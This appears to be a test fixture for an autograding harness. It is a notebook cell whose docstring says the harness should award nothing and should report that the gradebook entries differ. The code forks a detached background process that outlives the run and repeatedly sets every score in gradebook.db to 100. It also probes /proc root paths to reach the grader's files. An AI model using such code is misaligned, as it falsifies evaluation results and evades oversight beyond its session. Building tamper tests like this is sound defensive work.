"""Leave a detached child that edits gradebook.db after the run.

earns: nothing
shows: detached
report: entries differ
"""
# %% first cell
import os, sqlite3, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(4):
            os.close(number)
        while True:
            time.sleep(0.3)
            for root in ("", "/proc/1/root", "/proc/self/root"):
                for course in (__COURSE__, __REPOSITORY__):
                    try:
                        with sqlite3.connect(f"{root}{course}/gradebook.db") as book:
                            book.execute("update grade set auto_score = 100, manual_score = 100")
                    except (sqlite3.Error, OSError):
                        pass
    os._exit(0)
os.wait()
print("detached")
